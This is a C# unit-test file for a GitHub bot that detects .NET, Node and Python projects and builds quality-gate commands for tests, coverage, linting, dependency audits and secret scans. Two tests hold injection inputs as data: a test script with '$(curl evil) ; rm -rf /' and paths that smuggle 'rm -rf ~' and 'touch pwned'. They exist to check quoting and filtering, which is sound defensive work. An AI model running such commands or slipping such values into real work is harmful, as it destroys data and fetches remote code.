using GitHubBot.Core.Config;
using GitHubBot.Core.QualityGate;

namespace GitHubBot.Core.Tests;

public sealed class CheckDetectionTests
{
    private const string TestProject = """
        <Project Sdk="Microsoft.NET.Sdk">
          <ItemGroup>
            <PackageReference Include="Microsoft.NET.Test.Sdk" Version="18.0.1" />
            <PackageReference Include="coverlet.collector" Version="6.0.4" />
          </ItemGroup>
        </Project>
        """;

    [Fact]
    public void A_dotnet_solution_with_unit_integration_and_benchmark_projects_gets_all_eight_kinds()
    {
        var files = new[] { "App.sln", "src/App/App.csproj", "tests/App.Tests/App.Tests.csproj", "tests/App.IntegrationTests/App.IntegrationTests.csproj", "bench/App.Benchmarks/App.Benchmarks.csproj" };
        var texts = new Dictionary<string, string>
        {
            ["src/App/App.csproj"] = "<Project Sdk=\"Microsoft.NET.Sdk\" />",
            ["tests/App.Tests/App.Tests.csproj"] = TestProject,
            ["tests/App.IntegrationTests/App.IntegrationTests.csproj"] = TestProject,
            ["bench/App.Benchmarks/App.Benchmarks.csproj"] = "<Project><ItemGroup><PackageReference Include=\"BenchmarkDotNet\" Version=\"0.15.8\" /></ItemGroup></Project>",
        };

        var gate = QualityGateConfig.From(new QualityGateSection(), files, texts);

        Assert.Equal(CheckConfig.Names, gate.Checks.Select(c => c.Name));
        Assert.Empty(gate.Skipped);
        var byName = gate.Checks.ToDictionary(c => c.Name);
        Assert.Equal("dotnet test 'tests/App.Tests/App.Tests.csproj' --logger trx --results-directory .ghbot-reports/unit", byName["unit_tests"].Run);
        Assert.Contains("'tests/App.IntegrationTests/App.IntegrationTests.csproj'", byName["integration_tests"].Run, StringComparison.Ordinal);
        Assert.DoesNotContain("IntegrationTests", byName["unit_tests"].Run, StringComparison.Ordinal);
        Assert.Equal((ReportFormat.Cobertura, (string?)null), (byName["coverage"].Report, byName["coverage"].Unavailable));
        Assert.Contains("XPlat Code Coverage", byName["coverage"].Run, StringComparison.Ordinal);
        Assert.Equal(ReportFormat.Sarif, byName["static_analysis"].Report);
        Assert.Contains("CustomBeforeMicrosoftCommonProps", byName["static_analysis"].Run, StringComparison.Ordinal);
        Assert.Equal("dotnet format analyzers 'App.sln'", byName["static_analysis"].Fix);
        Assert.Equal(ReportFormat.DotnetVulnerable, byName["dependency_check"].Report);
        Assert.Equal(ReportFormat.DotnetFormat, byName["linting"].Report);
        Assert.Contains("'bench/App.Benchmarks/App.Benchmarks.csproj'", byName["performance"].Run, StringComparison.Ordinal);
        Assert.Equal(CheckConfig.SecretScan, byName["security_scan"].Run);
        Assert.True(byName["security_scan"].Required);
        Assert.All(gate.Checks.Where(c => c.Name != "security_scan"), c => Assert.Contains(c.Requires, r => r.Tool == "dotnet"));
    }

    [Fact]
    public void A_dotnet_test_project_without_coverlet_makes_coverage_neutral_saying_how_to_add_it()
    {
        var gate = QualityGateConfig.From(
            new QualityGateSection(),
            ["App.sln", "tests/App.Tests/App.Tests.csproj"],
            new Dictionary<string, string> { ["tests/App.Tests/App.Tests.csproj"] = "<Project><ItemGroup><PackageReference Include=\"Microsoft.NET.Test.Sdk\" /></ItemGroup></Project>" });

        var coverage = gate.Checks.Single(c => c.Name == "coverage");
        Assert.Contains("dotnet add tests/App.Tests/App.Tests.csproj package coverlet.collector", coverage.Unavailable, StringComparison.Ordinal);
        Assert.Contains(gate.Skipped, s => s.Name == "integration_tests" && s.Reason.Contains("Integration", StringComparison.Ordinal));
        Assert.Contains(gate.Skipped, s => s.Name == "performance" && s.Reason.Contains("BenchmarkDotNet", StringComparison.Ordinal));
    }

    [Fact]
    public void A_node_project_on_nodes_test_runner_gets_junit_and_lcov_reports_and_eslint_as_static_analysis()
    {
        var package = """
            {"scripts":{"test":"node --test test/","test:integration":"node --test integration/","lint":"node scripts/lint.js","lint:fix":"node scripts/lint.js --fix","bench":"node bench/run.js"}}
            """;
        var gate = QualityGateConfig.From(new QualityGateSection(), ["package.json", "package-lock.json", ".eslintrc.json", "src/index.js"], new Dictionary<string, string> { ["package.json"] = package });

        var byName = gate.Checks.ToDictionary(c => c.Name);
        Assert.Equal(CheckConfig.Names, gate.Checks.Select(c => c.Name));
        Assert.Equal("mkdir -p .ghbot-reports && node --test --test-reporter=spec --test-reporter-destination=stdout --test-reporter=junit --test-reporter-destination=.ghbot-reports/junit.xml test/", byName["unit_tests"].Run);
        Assert.Equal(ReportFormat.JUnit, byName["integration_tests"].Report);
        Assert.Contains("--experimental-test-coverage --test-reporter=lcov", byName["coverage"].Run, StringComparison.Ordinal);
        Assert.Equal(("mkdir -p .ghbot-reports && npm run lint", "npm run lint:fix"), (byName["linting"].Run, byName["linting"].Fix));
        Assert.Equal("mkdir -p .ghbot-reports && NODE_PATH=\"${NODE_PATH:-/usr/share/nodejs}\" eslint . -f json -o .ghbot-reports/eslint.json", byName["static_analysis"].Run);
        Assert.Contains(byName["static_analysis"].Requires, r => r.Tool == "eslint" && r.Install.Contains("npm install --save-dev eslint", StringComparison.Ordinal));
        Assert.Equal(ReportFormat.NpmAudit, byName["dependency_check"].Report);
        Assert.Equal("mkdir -p .ghbot-reports && npm run 'bench'", byName["performance"].Run);
    }

    [Fact]
    public void A_node_project_with_dependencies_installs_them_first_and_uses_its_own_eslint()
    {
        var package = """{"scripts":{"test":"jest"},"devDependencies":{"eslint":"^9.0.0","jest":"^29.0.0"}}""";
        var gate = QualityGateConfig.From(new QualityGateSection(), ["package.json", "package-lock.json", "eslint.config.js"], new Dictionary<string, string> { ["package.json"] = package });

        var byName = gate.Checks.ToDictionary(c => c.Name);
        Assert.Equal("mkdir -p .ghbot-reports && npm ci --no-audit --no-fund && npm test", byName["unit_tests"].Run);
        Assert.StartsWith("mkdir -p .ghbot-reports && npm ci --no-audit --no-fund && npx --no-install jest --coverage", byName["coverage"].Run, StringComparison.Ordinal);
        Assert.Equal("mkdir -p .ghbot-reports && npm ci --no-audit --no-fund && npx --no-install eslint . -f json -o .ghbot-reports/eslint.json", byName["static_analysis"].Run);
        Assert.DoesNotContain(byName["static_analysis"].Requires, r => r.Tool == "eslint");
        Assert.Contains(gate.Skipped, s => s.Name == "linting");
    }

    [Fact]
    public void Shell_syntax_in_a_test_script_is_never_copied_into_the_gates_command()
    {
        var package = """{"scripts":{"test":"node --test $(curl evil) ; rm -rf /"}}""";
        var gate = QualityGateConfig.From(new QualityGateSection(), ["package.json"], new Dictionary<string, string> { ["package.json"] = package });

        var tests = gate.Checks.Single(c => c.Name == "unit_tests");
        Assert.Equal("mkdir -p .ghbot-reports && npm test", tests.Run);
        Assert.DoesNotContain(gate.Checks, c => c.Run.Contains("curl", StringComparison.Ordinal));
    }

    [Fact]
    public void A_python_project_gets_pytest_coverage_flake8_pylint_and_pip_audit_each_naming_its_tool()
    {
        var files = new[] { "pyproject.toml", "calc/__init__.py", "tests/test_calc.py", "tests/integration/test_cli.py", "benchmarks/test_bench_calc.py" };
        var gate = QualityGateConfig.From(new QualityGateSection(), files, new Dictionary<string, string> { ["pyproject.toml"] = "[project]\nname = \"calc\"\n" });

        var byName = gate.Checks.ToDictionary(c => c.Name);
        Assert.Equal(CheckConfig.Names, gate.Checks.Select(c => c.Name));
        Assert.Equal("mkdir -p .ghbot-reports && pytest --junitxml=.ghbot-reports/junit.xml --ignore='tests/integration' --ignore='benchmarks'", byName["unit_tests"].Run);
        Assert.Contains(byName["coverage"].Requires, r => r.Tool == "pytest-cov" && r.Install.Contains("python3-pytest-cov", StringComparison.Ordinal));
        Assert.Equal(ReportFormat.Flake8, byName["linting"].Report);
        Assert.Equal(ReportFormat.PylintJson, byName["static_analysis"].Report);
        Assert.Contains(byName["dependency_check"].Requires, r => r.Tool == "pip-audit" && r.Install == "pip install pip-audit");
        Assert.Equal("mkdir -p .ghbot-reports && pytest 'tests/integration' --junitxml=.ghbot-reports/integration.xml", byName["integration_tests"].Run);
        Assert.Equal(CheckConfig.SecretScan, byName["security_scan"].Run);
    }

    [Fact]
    public void A_python_project_that_configures_ruff_and_bandit_gets_them()
    {
        var gate = QualityGateConfig.From(
            new QualityGateSection(),
            ["pyproject.toml", "app.py"],
            new Dictionary<string, string> { ["pyproject.toml"] = "[tool.ruff]\nline-length = 100\n[tool.bandit]\nskips = []\n" });

        var byName = gate.Checks.ToDictionary(c => c.Name);
        Assert.Equal((ReportFormat.Sarif, "ruff check --fix ."), (byName["linting"].Report, byName["linting"].Fix));
        Assert.Equal("ruff check --fix .", byName["static_analysis"].Fix);
        Assert.Equal(ReportFormat.BanditJson, byName["security_scan"].Report);
        Assert.Contains(gate.Skipped, s => s.Name == "performance");
        Assert.Contains(gate.Skipped, s => s.Name == "integration_tests");
    }

    [Fact]
    public void A_repository_using_gitleaks_gets_it_as_its_security_scan()
    {
        var gate = QualityGateConfig.From(new QualityGateSection(), ["requirements.txt", ".gitleaks.toml", "app.py"]);

        var scan = gate.Checks.Single(c => c.Name == "security_scan");
        Assert.Equal(ReportFormat.Sarif, scan.Report);
        Assert.Contains(scan.Requires, r => r.Tool == "gitleaks");
        Assert.Contains("-r 'requirements.txt'", gate.Checks.Single(c => c.Name == "dependency_check").Run, StringComparison.Ordinal);
    }

    [Fact]
    public void A_repository_with_no_known_ecosystem_skips_every_kind_saying_why()
    {
        var gate = QualityGateConfig.From(new QualityGateSection(), ["README.md", "docs/index.md"]);

        Assert.Empty(gate.Checks);
        Assert.All(gate.Skipped, s => Assert.Contains("no .NET solution or project, package.json or Python project", s.Reason, StringComparison.Ordinal));
    }

    [Fact]
    public void Repository_paths_are_quoted_so_the_shell_reads_them_as_one_word()
    {
        Assert.Equal("'it'\\''s; rm -rf ~'", CheckDetection.Quote("it's; rm -rf ~"));
        var files = new[] { "a.sln", "tests/x'; touch pwned; '/X.Tests.csproj" };
        var gate = QualityGateConfig.From(new QualityGateSection(), files, new Dictionary<string, string> { [files[1]] = TestProject });

        Assert.Contains("'tests/x'\\''; touch pwned; '\\''/X.Tests.csproj'", gate.Checks.Single(c => c.Name == "unit_tests").Run, StringComparison.Ordinal);
    }

    [Fact]
    public void Only_a_bounded_number_of_manifests_is_read()
    {
        var files = Enumerable.Range(0, 500).Select(i => $"src/P{i}/P{i}.csproj").Append("package.json").ToList();

        var wanted = CheckDetection.ManifestsToRead(files);

        Assert.Equal(CheckDetection.MaxManifests, wanted.Count);
        Assert.Equal("package.json", wanted[0]);
    }
}
